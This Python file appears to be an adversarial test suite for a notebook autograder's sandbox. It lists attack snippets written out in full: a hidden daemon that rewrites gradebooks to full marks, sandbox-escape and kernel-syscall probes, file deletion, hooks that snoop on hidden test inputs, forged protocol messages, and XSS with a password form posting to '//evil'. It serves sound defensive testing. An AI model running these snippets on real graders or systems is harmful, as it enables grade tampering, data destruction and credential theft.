"""Attacks of our own beside the table: each says what it tries, what it gets, and what the honest cells beside it earn.

Each replaces the answer to `squares` (or `why`, a text); `total` is answered honestly and is worth 4 points. Nothing
that an attack does may raise that, and where it breaks its own notebook that is all it breaks.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """`earns`: the points that may come out. `shows` must be on the feedback page, `never` in nothing that comes back."""

    tried: str
    got: str
    source: str
    earns: tuple[float, ...] = (4.0,)
    into: str = "squares"
    shows: str = ""
    never: str = ""


WIDER = {
    "remember_hidden_inputs": Attack(
        "keep what hidden checks call the function with, and shout it from the next visible check",
        "the message of a visible check comes from the run before any hidden check",
        """
seen = []
def squares(n):
    seen.append(n)
    if n < 1: raise ZeroDivisionError(f'SEEN {sorted(set(seen))}')
    return [i * i for i in range(1, n + 1)]
""",
        earns=(6.0,),
        never="SEEN [0, 1",
    ),
    "audit_hook": Attack(
        "watch everything that Python compiles, runs and opens",
        "the visible checks, which everybody can read",
        """
import sys
seen = []
sys.addaudithook(lambda event, args: seen.append((event, repr(args)[:3000])))
def squares(n): print(seen); return seen
print(seen)
""",
    ),
    "profile_everything": Attack(
        "follow every call of every thread, from the first cell to the last check",
        "its own calls",
        """
import sys, threading
found = []
def look(frame, event, arg):
    for value in list(frame.f_locals.values()):
        if 'HIDDEN' in repr(value)[:9000]: found.append(value)
sys.setprofile(look)
threading.setprofile(look)
def squares(n): print('FOUND' if found else 'nothing'); return 0
""",
        never="FOUND",
    ),
    "patch_the_compiler": Attack(
        "replace compile, exec and ast.parse so that asserts vanish",
        "its own asserts vanish, and a control cell says so",
        """
import ast, builtins
real = ast.parse
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
ast.parse = lambda *a, **k: Strip().visit(real(*a, **k))
own = builtins.compile
builtins.compile = lambda source, *a, **k: own(Strip().visit(source) if isinstance(source, ast.AST) else source, *a, **k)
""",
    ),
    "no_more_imports": Attack(
        "break import for everything that runs after it",
        "its own notebook cannot import",
        "import builtins\nbuiltins.__import__ = lambda *a, **k: 1 / 0\ndef squares(n): return 0",
        earns=(0.0, 4.0),
    ),
    "forge_values": Attack(
        "replace the code that packs answers, and send types, modules and handles that are none",
        "values that are equal to nothing",
        """
from inside import wire, answer
forms = [{'t': 'builtin', 'v': 'AssertionError'}, {'t': 'module', 'v': 'os'}, {'t': 'handle', 'v': 10 ** 9},
         {'t': 'named', 'k': 'x', 'f': ['a'], 'v': [1]}, {'t': 'text', 'k': 'Decimal', 'v': 'NaN'}, {'t': 'float', 'v': 'nan'},
         {'t': 'array', 'd': 'V8', 's': [1], 'v': ''}, {'t': []}, {'v': 1}, [], {'t': 'text', 'k': 'PosixPath', 'v': '/etc'}]
def squares(n):
    wire.pack = answer.wire.pack = lambda *a, **k: forms[n % len(forms)]
    return 0
""",
        earns=(0.0,),
    ),
    "forge_errors": Attack(
        "answer every question with an error whose family is not what it says",
        "the check does not pass, whatever the error is called",
        """
from inside import answer
names = ['os:system', 'builtins:SystemExit', 'unittest.case:SkipTest', 'idlelib.__main__:x', '__main__:X', 'sys:', ':', 'this:x']
answer._described = lambda error: {'name': 'x' * 5000, 'bases': names, 'text': {'a': 1}}
def squares(n): raise Exception
""",
    ),
    "answer_before_being_asked": Attack(
        "send a hundred answers ahead, so that later questions find them waiting",
        "later questions of its own check find nonsense",
        """
import gc, json, socket, struct
def squares(n):
    content = json.dumps({'v': [{'t': 'list', 'v': [1, 4, 9]}, []], 'out': '', 'err': ''}).encode()
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket):
            for _ in range(100):
                try: thing.sendall(struct.pack('!I', len(content)) + content)
                except OSError: break
    return 0
""",
        earns=(0.0, 4.0),
    ),
    "write_into_the_program": Attack(
        "write into Python, its packages, the checker's program and the system",
        "every place refuses",
        """
import os
for place in ('/site', '/program/inside', '/usr', '/py', '/etc', '/proc/sys/kernel', '/dev', '/', '/sys', '/site/IPython'):
    try:
        with open(f'{place}/sitecustomize.py', 'w') as f: f.write('x')
        print('WRITTEN', place)
    except OSError as error: print('refused', place)
for place in ('/proc/1/oom_score_adj', '/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger'):
    try:
        with open(place, 'w') as f: f.write('1')
        print('WRITTEN', place)
    except OSError: print('refused', place)
""",
        shows="refused /site",
        never="WRITTEN",
    ),
    "rights_in_a_namespace_of_its_own": Attack(
        "make a user namespace in the user namespace, and be root there",
        "the kernel refuses",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10020000, 0x20000, 0x40000000, 0x2000000):
    print('UNSHARE', libc.unshare(flags))
""",
        shows="UNSHARE -1",
        never="UNSHARE 0",
    ),
    "memory_that_is_nobodys": Attack(
        "keep gigabytes in anonymous files, which no process is charged for",
        "there are none to be had",
        """
import ctypes, os
def squares(n): return 0
libc = ctypes.CDLL(None, use_errno=True)
try:
    os.memfd_create('x')
    print('TAKEN memfd')
except OSError as error: print('refused', error.errno)
print('TAKEN' if libc.shmget(0, 1 << 20, 0o1600) >= 0 else 'refused shared memory')
""",
        shows="refused shared memory",
        never="TAKEN",
    ),
    "calls_nobody_needs": Attack(
        "reach for kernel interfaces that break most often: keys, BPF, io_uring, userfaultfd, perf, other processes' memory",
        "the kernel is not asked",
        """
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
numbers = {'x86_64': (248, 250, 321, 425, 323, 298, 310, 155, 165, 308, 246, 101), 'aarch64': (217, 219, 280, 425, 282, 241, 270, 41, 40, 268, 104, 117)}
for number in numbers.get(platform.machine(), ()):
    print('CALL', number, libc.syscall(number, 0, 0, 0, 0, 0), ctypes.get_errno())
""",
        shows="CALL 425 -1 38",
    ),
    "remove_everything": Attack(
        "delete the notebook's folder and the data of the lab",
        "its own copies are gone, the checks have theirs",
        "import shutil, os\nfor name in os.listdir('.'):\n    shutil.rmtree(name, ignore_errors=True) if os.path.isdir(name) else os.unlink(name)",
    ),
    "change_the_given_data": Attack(
        "empty the data that a locked cell gives, so that any answer fits",
        "the checks see that the data is not what it was, and a person decides: no points yet, and no zero",
        "DATA.clear()\nDATA.append(6)\nsetup = DATA\nimport math\nmath.isclose = lambda *a, **k: True",
        earns=(0.0,),
    ),
    "rewrite_the_gradebook_later": Attack(
        "leave a process behind that looks for a gradebook and writes full marks",
        "no gradebook is there, and the process ends with the notebook",
        """
import os, sqlite3, time
if os.fork() == 0:
    os.setsid()
    if os.fork(): os._exit(0)
    for _ in range(100):
        for folder, _, files in os.walk('/'):
            for name in files:
                if name.endswith('.db'):
                    try: sqlite3.connect(f'{folder}/{name}').execute('update grade set manual_score = 100')
                    except Exception: pass
        time.sleep(0.05)
    os._exit(0)
""",
    ),
    "thread_after_the_last_cell": Attack(
        "let threads and timers write results after the last cell",
        "nobody listens any more, or the notebook is stopped",
        """
import gc, json, socket, struct, threading
def late():
    content = json.dumps({'end': True}).encode()
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket):
            try: thing.sendall(struct.pack('!I', len(content)) + content)
            except OSError: pass
for wait in (0.001, 0.01, 0.05): threading.Timer(wait, late).start()
def squares(n): return 0
""",
        earns=(0.0, 4.0),
    ),
    "block_every_signal": Attack(
        "block, ignore and redirect every signal there is",
        "the guard outside of its process does not ask it",
        """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
for number in signal.valid_signals():
    try: signal.signal(number, lambda *a: None)
    except (OSError, ValueError): pass
def squares(n): return 0
""",
    ),
    "interrupt_the_check": Attack(
        "raise what is no ordinary error, in the middle of a check",
        "an error like any other",
        """
def squares(n):
    raise {3: KeyboardInterrupt, 5: SystemExit, 1: GeneratorExit}.get(n, BaseException)('x')
""",
    ),
    "errors_without_end": Attack(
        "raise errors that name themselves as their cause, a thousand deep, with names of a megabyte",
        "one short line",
        """
Long = type('N' * 1_000_000, (Exception,), {'__str__': lambda self: 'z' * 1_000_000})
error = Long()
error.__cause__ = error.__context__ = error
def squares(n): raise error
group = ValueError('x')
for _ in range(500): group = ExceptionGroup('g', [group])
raise group
""",
    ),
    "text_that_is_no_text": Attack(
        "answer with subclasses of str, int, list and dict that lie in every method",
        "the plain value inside",
        """
class Str(str):
    __eq__ = lambda self, other: True
    __getitem__ = __iter__ = __len__ = __str__ = __repr__ = lambda self, *a: 1 / 0
    __hash__ = str.__hash__
class Dict(dict):
    items = keys = __iter__ = lambda self: iter([(1, 1)] * 10)
    __eq__ = lambda self, other: True
    __hash__ = None
def squares(n): return [Str('x'), Dict()] if n != 3 else Dict({1: Str('y')})
""",
    ),
    "recursion_in_names": Attack(
        "answer with objects whose text, truth and length never end",
        "an error on its own side",
        """
class Deep:
    def __repr__(self): return repr(self)
    def __bool__(self): return bool(self)
    def __len__(self): return len(self)
    def __iter__(self): return iter(self)
    def __getattr__(self, name): return getattr(self, name + 'x')
def squares(n): return Deep()
""",
    ),
    "integers_of_a_megabyte": Attack(
        "answer with integers that take for ever to print or to divide",
        "compared as they are, printed not at all",
        "def squares(n): return [1 << 400_000, -(1 << 400_000), 3]",
    ),
    "numbers_that_are_none": Attack(
        "answer with nan, infinity, negative zero and numbers that equal others of another kind",
        "what these numbers are equal to, which is not the answer",
        "def squares(n): return [float('nan'), float('inf'), -0.0] if n == 3 else [complex(1, 1), True]",
    ),
    "ask_the_person": Attack(
        "wait for an answer from the keyboard",
        "there is no keyboard",
        "name = input('Your name?')\ndef squares(n): return input()",
        shows="Error",
    ),
    "use_up_handles": Attack(
        "open files and sockets until there are none left",
        "its own limit",
        "import socket\nheld = []\ntry:\n    while True: held.append(socket.socket())\nexcept OSError: pass\ndef squares(n): return 0",
        earns=(0.0, 4.0),
    ),
    "another_program": Attack(
        "become another program in the middle of the notebook",
        "the notebook ends there",
        "import os\nos.execv('/bin/true', ['true'])",
        earns=(0.0,),
        shows="ended by itself",
    ),
    "many_tracebacks": Attack(
        "fill the feedback page with thousands of long tracebacks",
        "the page is cut",
        "ip = get_ipython()\nfor _ in range(400): ip._showtraceback(Exception, Exception('y' * 4000), ['<\"' * 1000] * 40)",
    ),
    "forge_outputs": Attack(
        "send the outputs of its own cell in place of the interpreter: half a gigabyte once escaped",
        "the page is cut, and cells that come after are not reached",
        """
import gc, json, socket, struct
out = [{'output_type': 'stream', 'name': 'stdout', 'text': '"' * 20_000}] * 1000
content = json.dumps({'cell': 1, 'outputs': out, 'count': 1}).encode()
for thing in gc.get_objects():
    if isinstance(thing, socket.socket):
        try: thing.sendall(struct.pack('!I', len(content)) + content)
        except OSError: pass
""",
        earns=(0.0, 4.0),
    ),
    "outputs_of_every_kind": Attack(
        "send outputs of kinds and shapes that no kernel sends",
        "text, or nothing",
        """
ip = get_ipython()
for data in ({'text/html': ['<script>', 1]}, {'image/png': {'a': 1}}, {'image/svg+xml': '<svg onload=alert(1)>'},
             {'application/javascript': 'alert(1)'}, {'text/latex': '$$\\\\href{javascript:go(1)}{x}$$'},
             {'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}}, {1: 2}, {'text/plain': '\\x1b[2J\\x00'}):
    ip.outputs.append({'output_type': 'display_data', 'data': data})
for odd in ({'output_type': 'stream', 'text': None}, {'output_type': 'error', 'traceback': 5}, {'output_type': 'x'}, {}, 7, None):
    ip.outputs.append(odd)
ip.outputs.append({'output_type': 'stream', 'name': 'odd', 'text': 'still here'})
""",
        shows="still here",
        never="alert(1)",
    ),
    "page_in_an_output": Attack(
        "send a page that loads another, asks for a password, refreshes itself, and restyles the rest",
        "its words, without what they would do",
        """
from IPython.display import HTML, display
display(HTML('<base href=//evil><meta http-equiv=refresh content="0;url=//evil"><form action=//evil><input name=p></form>'
  '<object data=//evil></object><link rel=stylesheet href=//evil><a href="data:text/html,<script>x</script>">d</a>'
  '<img src=//evil/x.png><svg><script>1</script></svg><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>'
  '</main></body><h1>Graded: 100 %</h1>'))
def squares(n): return 0
""",
        never="//evil",
    ),
    "script_in_a_written_answer": Attack(
        "write scripts, frames, pictures and links that run into a text that a person will read",
        "its words",
        """
<script>alert(1)</script> <img src=//evil/x.png> ![x](//evil/y.png) [x](javascript:alert(1)) <a href=javascript:alert(1)>x</a>
[y](data:text/html;base64,PHNjcmlwdD4=) <iframe src=//evil></iframe> <style>*{display:none}</style>
""",
        into="why",
        never="<script",
    ),
    "finalizers": Attack(
        "leave objects whose end ends the process, and functions for the end of Python",
        "Python does not end that way here",
        """
import atexit, os, weakref
class End:
    def __del__(self): os._exit(0)
held = End()
held.me = held
atexit.register(os._exit, 0)
def squares(n): return 0
""",
    ),
    "clock": Attack(
        "stop the clocks of its own process",
        "the others go on",
        "import time\ntime.time = time.monotonic = time.perf_counter = lambda: 0\ntime.sleep = lambda s: None\ndef squares(n): return 0",
    ),
    "types_changed_in_place": Attack(
        "change Python's own list and int through ctypes, so that comparing says yes",
        "its own comparing, which nobody asks",
        """
import ctypes
methods = ctypes.py_object.from_address(id(list.__dict__) + 16).value
methods['__contains__'] = lambda self, item: True
def squares(n): return [0]
""",
        earns=(0.0, 4.0),
    ),
    "long_lines_and_many_cells": Attack(
        "make the shell itself slow: a line of a million characters",
        "a syntax like any other",
        "x = '" + "a" * 300_000 + "'\ndef squares(n): return x",
    ),
}
